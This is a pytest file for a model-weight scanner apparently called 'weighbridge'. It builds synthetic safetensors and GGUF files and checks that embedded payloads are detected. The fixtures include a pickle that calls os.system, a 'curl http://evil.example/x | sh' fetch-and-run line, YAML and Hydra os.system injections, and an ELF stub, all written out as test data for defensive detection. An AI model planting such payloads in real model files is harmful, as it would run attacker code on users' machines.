"""What is packed in the metadata, the bytes and behind the end of tensor files."""

from __future__ import annotations

import base64
import json
import struct

import pytest

import weighbridge as wb
from weighbridge.core import Answer, Severity

PICKLE = b"cos\nsystem\n(S'echo hello from a pickle'\ntR."
ELF = bytes.fromhex("7f454c4602010100") + b"\0" * 200
SCRIPT = b"import os\nos.system('curl http://evil.example/x | sh')\n"


def build_safetensors(
    metadata: dict[str, str], data: bytes = b"\0\0\x80?" * 2, dtype: str = "F32"
) -> bytes:
    count = len(data) // (4 if dtype == "F32" else 1)
    tensor = {"dtype": dtype, "shape": [count], "data_offsets": [0, len(data)]}
    head = json.dumps({"__metadata__": metadata, "a": tensor}).encode()
    return struct.pack("<Q", len(head)) + head + data


def build_gguf(texts: dict[str, bytes], behind: bytes = b"") -> bytes:
    def text(value: bytes) -> bytes:
        return struct.pack("<Q", len(value)) + value

    pairs = b"".join(
        text(key.encode()) + struct.pack("<I", 8) + text(value) for key, value in texts.items()
    )
    table = text(b"w") + struct.pack("<IQIQ", 1, 32, 0, 0)
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, len(texts)) + pairs + table
    return head + b"\0" * (-len(head) % 32) + b"\0\0\x80?" * 32 + behind


def gates(data: bytes) -> set[str]:
    report = wb.scan(data)
    rows = {row.reason for row in report.not_examined}
    return rows | {
        finding.rule_id
        for finding in report.findings
        if finding.answer is not Answer.PASS and finding.severity.rank >= Severity.MEDIUM.rank
    }


@pytest.mark.parametrize(
    "note",
    [
        SCRIPT.decode(),
        "#!/bin/sh\ncurl http://evil.example/x | sh\n",
        base64.b64encode(PICKLE * 3).decode(),
        base64.b64encode(ELF).decode(),
        base64.b64encode(SCRIPT).decode(),
        (PICKLE * 3).hex(),
        "!!python/object/apply:os.system ['id']",
        '{"_target_": "os.system"}',
        "{{ ''.__class__.__mro__ }}",
        "__import__('os').system('id')",
    ],
)
def test_a_payload_in_the_metadata_is_seen(note: str) -> None:
    assert gates(build_safetensors({"note": note}))
    assert gates(build_gguf({"general.description": note.encode()}))


@pytest.mark.parametrize(
    "note",
    [
        "pt",
        json.dumps({"image.png": {"a cat": 3}, "other": [1, 2, 3]}),
        "2024-01-01T00:00:00",
        "data:image/png;base64," + base64.b64encode(bytes(range(256))).decode(),
        "0123456789abcdef" * 4,
        "A model for people. It imports nothing, and evaluates well (see README.md).",
        "https://huggingface.co/org/model",
    ],
)
def test_ordinary_metadata_passes(note: str) -> None:
    assert not gates(build_safetensors({"note": note}))
    assert not gates(build_gguf({"general.description": note.encode()}))


@pytest.mark.parametrize("payload", [PICKLE, ELF, b"PK\x03\x04" + b"\0" * 40])
def test_a_payload_in_place_of_a_tensor_is_seen(payload: bytes) -> None:
    assert gates(build_safetensors({}, payload, "U8"))


@pytest.mark.parametrize("behind", [PICKLE, ELF, SCRIPT])
def test_what_lies_behind_the_last_tensor_is_examined(behind: bytes) -> None:
    assert gates(build_gguf({}, behind))
    assert not gates(build_gguf({}, b"\0" * 32))
